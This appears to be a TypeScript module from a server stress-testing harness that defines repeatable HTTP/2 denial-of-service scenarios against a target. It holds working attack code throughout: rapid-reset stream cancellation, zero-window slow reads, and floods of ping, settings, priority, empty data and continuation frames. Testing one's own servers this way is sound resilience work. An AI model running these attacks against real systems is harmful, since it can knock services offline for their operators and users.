import { setTimeout as after } from 'node:timers/promises'
import { flags, frame, get, getBlock, preface, reset } from './http2-frames.js'
import type { AttackTarget, Scenario } from './scenario.js'
import { answered, closed, openHttp2Socket } from './sockets.js'

/** Client-initiated streams: 1, 3, 5, … */
const streams = (count: number): number[] => Array.from({ length: count }, (_, index) => 2 * index + 1)

/** One connection that asks for an event stream and cancels it, `count` times in one write (“rapid reset”). */
export async function resetRapidly({ https, address }: AttackTarget, count: number): Promise<void> {
  const socket = await openHttp2Socket(https, address)
  const frames = streams(count).flatMap(stream => [get(stream, '/v1/events?topic=a/%23'), reset(stream)])
  socket.write(Buffer.concat([preface(), ...frames]))
  await answered(socket)
  await after(50)
  await closed(socket)
}

/** One connection with a hundred requests for a file, of which it takes no byte (SETTINGS_INITIAL_WINDOW_SIZE 0), for so long. */
export async function readNothing({ https, address }: AttackTarget, milliseconds: number): Promise<void> {
  const socket = await openHttp2Socket(https, address)
  const noWindow = frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))
  const requests = streams(100).map(stream => get(stream, '/vendor/paho-mqtt.js'))
  socket.write(Buffer.concat([preface(), noWindow, ...requests]))
  await answered(socket)
  await after(milliseconds)
  await closed(socket)
}

/** Frames that cost little to send; 1 MB of each. */
const floods: Readonly<Record<string, () => Buffer[]>> = {
  ping: () => [Buffer.concat(Array.from({ length: 60_000 }, () => frame('ping', 0, 0, Buffer.alloc(8))))],
  settings: () => [Buffer.concat(Array.from({ length: 100_000 }, () => frame('settings')))],
  priority: () => [Buffer.concat(streams(70_000).map(stream => frame('priority', 0, stream, Buffer.alloc(5))))],
  'empty data': () => [
    frame('headers', flags.endHeaders, 1, getBlock('/v1/events?topic=a')),
    Buffer.concat(Array.from({ length: 100_000 }, () => frame('data', 0, 1))),
  ],
  continuation: () => [
    frame('headers', 0, 1, getBlock('/')),
    Buffer.concat(Array.from({ length: 100_000 }, () => frame('continuation', 0, 1))),
  ],
}

/** The kinds of frames that `flood` sends. */
export const floodKinds = Object.keys(floods)

/** One connection that sends one kind of frame over and over. */
export async function flood({ https, address }: AttackTarget, kind: string): Promise<void> {
  const socket = await openHttp2Socket(https, address)
  socket.resume().write(Buffer.concat([preface(), ...(floods[kind]?.() ?? [])]))
  await Promise.race([new Promise(resolve => socket.once('close', resolve)), after(500)])
  await closed(socket)
}

const repeated = (name: string, attack: (target: AttackTarget) => Promise<unknown>): Scenario => ({
  name,
  run: async (target, signal) => {
    let rounds = 0
    for (; !signal.aborted && target.https !== ''; rounds++) await attack(target)
    return rounds
  },
})

const times = <T>(count: number, work: () => Promise<T>): Promise<T[]> =>
  Promise.all(Array.from({ length: count }, work))

export const http2Scenarios: readonly Scenario[] = [
  repeated('http2-rapid-reset', target => times(4, () => resetRapidly(target, 1000))),
  repeated('http2-unread-files', target => times(20, () => readNothing(target, 500))),
  repeated('http2-cheap-frames', target => Promise.all(floodKinds.map(kind => flood(target, kind)))),
]
